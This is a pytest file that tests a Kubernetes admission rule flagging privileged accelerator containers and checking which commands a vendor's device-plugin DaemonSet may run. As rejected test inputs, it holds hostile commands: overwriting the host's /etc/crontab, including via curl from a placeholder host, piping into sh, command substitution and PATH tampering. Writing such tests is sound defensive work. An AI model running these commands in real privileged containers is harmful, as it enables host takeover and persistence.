"""A privileged container is reported by what its image's reference says of accelerators."""

from __future__ import annotations

from typing import Any

import pytest

from policies.loading import default_policy
from rules.engine.fixing import check
from rules.profile.context import Context
from tests.testkit.admission.reviews import container, pod
from tests.testkit.cases import TODAY

RULES = default_policy().rule_set()
DIGEST = "@sha256:" + "0" * 64


@pytest.mark.parametrize(
    ("image", "platform"),
    [
        ("rocm/pytorch:latest", "ROCm"),
        ("mirror.example.com:5000/rocm/pytorch", "ROCm"),
        ("ROCM-mirror.example.com/team/app:rocm6.4-ubuntu", "ROCm"),
        ("team/pytorch-rocm", "ROCm"),
        ("vault.habana.ai:443/docker/pytorch:1", "Gaudi"),
        ("team/app:1-hpu", "Gaudi"),
        ("team/app_npu.v2:1", "NPUs"),
        ("ascend/vllm:1" + DIGEST, "Ascend"),
        ("team/vllm-rbln:1" + DIGEST, "RBLN"),
        ("us-central1-docker.pkg.dev/tpu-pytorch-releases/docker/xla:r2.7.0_3.10_tpuvm", "TPUs"),
        ("us-central1-docker.pkg.dev/tpu-pytorch-releases/docker/xla:r2.7.0_3.10_cuda_12.6", ""),
        ("quay.io/vllm/vllm-neuron:0.11", "Neuron"),
        ("example.com/neuron:1", ""),
        ("ascendai/pytorch:2.2.0", "Ascend"),
        ("registry.iluvatar.com.cn:10443/saas/mr-bi150-4.3.0-base:v1.0", "CoreX"),
        # A digest overrides the tag, so the tag says nothing.
        ("team/app:rocm6.4" + DIGEST, ""),
        ("host-npu.example.com:5000/team/app:1", ""),
        ("rocm.example.com/team/app:1", ""),
        ("team/input:1", ""),
        ("team/npus:1", ""),
        ("team/rocm/../app" * 100, ""),
    ],
)
def test_an_image_of_any_maker_is_known_by_its_reference(image: str, platform: str) -> None:
    manifest = pod(container(image=image, securityContext={"privileged": True}))
    found = check(manifest, RULES, Context(TODAY, "team-a", "alice", "CREATE")).findings
    said = [f.message for f in found if f.rule == "privileged-gpu"]
    assert [f"which uses {platform}:" in message for message in said] == [True] * bool(platform)


@pytest.mark.parametrize(
    ("image", "is_reported"),
    [
        ("rocm/k8s-device-plugin:1.2", False),
        ("rocm/device-metrics-exporter", False),
        ("rocm/pytorch:exporter", True),
        ("rocm/pytorch:1-plugin", True),
        ("rocm/plugins:1", True),
    ],
)
def test_an_agent_of_a_maker_is_known_by_the_name_of_its_image(
    image: str, *, is_reported: bool
) -> None:
    assert is_reported_as_agent(image) == is_reported


AGENT = "rocm/k8s-device-plugin:1.2"
SHELL = "/bin/bash"
WAITING = "until [ -f /run/ready ]; do echo waiting for it; sleep 5; done"


@pytest.mark.parametrize(
    "fields",
    [
        {"args": ["-v", "2"]},
        {"args": ["k8s-device-plugin"]},
        {"command": [SHELL, "-c", "--"], "args": ["umask 027; npu-exporter -port=8082"]},
        {"command": [SHELL, "-c", "exec /usr/bin/ascend-dra 'a b' && echo \"the end\""]},
        {"preStop": [SHELL, "-c", "rm -f /run/*-ready"]},
        {"postStart": [SHELL, "-c", WAITING]},
        {"preStop": ["/usr/bin/sleep", "5"]},
    ],
)
def test_a_makers_agent_may_run_its_programs(fields: dict[str, list[str]]) -> None:
    assert not is_reported_as_agent(AGENT, **fields)


@pytest.mark.parametrize(
    "fields",
    [
        {"args": ["python3", "-c", "1"]},
        {"command": ["npu-exporter/../sh"]},
        {"command": [SHELL]},
        {"command": [SHELL, "gpu.sh"]},
        {"command": [SHELL, "-xc", "device-plugin"]},
        {"command": [SHELL, "-c", "device-plugin > /host/etc/crontab"]},
        {"command": [SHELL, "-c", "device-plugin & id"]},
        {"command": [SHELL, "-c", "device-plugin | sh"]},
        {"command": [SHELL, "-c", "device-plugin $(SCRIPT)"]},
        {"command": [SHELL, "-c", "device-plugin '$(SCRIPT)'"]},
        {"command": [SHELL, "-c", "PATH=/work device-plugin"]},
        {"command": [SHELL, "-c", "exec -c sh"]},
        {"command": [SHELL, "-c", WAITING]},
        {"preStop": [SHELL, "-c", "while sh; do sleep 1; done"]},
        {"preStop": ["curl", "-o", "/host/etc/crontab", "http://example.com"]},
        {"command": ["gpu" * 100_000 + "$"]},
        {"command": [SHELL, "-c", "gpu; " * 100_000]},
    ],
)
def test_a_makers_agent_may_run_no_other_code(fields: dict[str, list[str]]) -> None:
    assert is_reported_as_agent(AGENT, **fields)


def pod_of_daemon_set(*containers: dict[str, Any]) -> dict[str, Any]:
    """A pod as the controller of DaemonSets makes it."""
    manifest = pod(*containers)
    owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "d", "uid": "1"}
    manifest["metadata"]["ownerReferences"] = [{**owner, "controller": True}]
    return manifest


def is_reported_as_agent(image: str, **commands: list[str]) -> bool:
    """Return whether the pod of a DaemonSet with this privileged container is reported."""
    own: dict[str, Any] = {key: commands.pop(key) for key in ("command", "args") if key in commands}
    own["lifecycle"] = {hook: {"exec": {"command": command}} for hook, command in commands.items()}
    manifest = pod_of_daemon_set(
        container(image=image, securityContext={"privileged": True}, **own)
    )
    user = "system:serviceaccount:kube-system:daemon-set-controller"
    found = check(manifest, RULES, Context(TODAY, "team-a", user, "CREATE")).findings
    return "privileged-gpu" in {f.rule for f in found}


PLACES = [f"/place-{n}/of/a/volume" for n in range(2000)]
HOSTILE_FIELDS: dict[str, dict[str, Any]] = {
    "paths": {"env": [{"name": "PATH", "value": ":".join(PLACES[:40])}] * 400},
    "volumes": {"volumeMounts": [{"name": "v", "mountPath": place} for place in PLACES]},
    "a path and volumes": {
        "env": [{"name": "PATH", "value": ":".join(PLACES[:40])}],
        "volumeMounts": [{"name": "v", "mountPath": place} for place in PLACES],
    },
    "paths and volumes": {
        "env": [{"name": "PATH", "value": ":".join(PLACES[:40])}] * 400,
        "volumeMounts": [{"name": "v", "mountPath": place} for place in PLACES],
    },
    "a deep volume": {"volumeMounts": [{"name": "v", "mountPath": "/a" * 100_000}]},
    "a long folder": {"workingDir": "/a" * 500_000},
}


@pytest.mark.parametrize("what", HOSTILE_FIELDS)
@pytest.mark.parametrize("folder", ["", "bin/", "/opt/bin/"])
def test_programs_are_looked_up_in_linear_time(what: str, folder: str) -> None:
    """Not a measurement: with each program in each folder in each volume this takes minutes."""
    script = " ; ".join(f"{folder}gpu{n}" for n in range(60))
    agent = container(
        image=AGENT,
        securityContext={"privileged": True},
        command=[SHELL, "-c", script],
        **HOSTILE_FIELDS[what],
    )
    names = [f"agent-{n}" for n in range(20)]
    manifest = pod_of_daemon_set(*({**agent, "name": name} for name in names))
    assert check(manifest, RULES, Context(TODAY)).failures == []


def test_of_two_search_paths_none_is_believed() -> None:
    path = {"name": "PATH", "value": "/usr/bin"}
    for paths, is_excused in (([path], True), ([path, path], False)):
        agent = container(image=AGENT, securityContext={"privileged": True}, env=paths)
        manifest = pod_of_daemon_set({**agent, "command": ["k8s-device-plugin"]})
        found = check(manifest, RULES, Context(TODAY)).findings
        assert ("privileged-gpu" in {f.rule for f in found}) is not is_excused
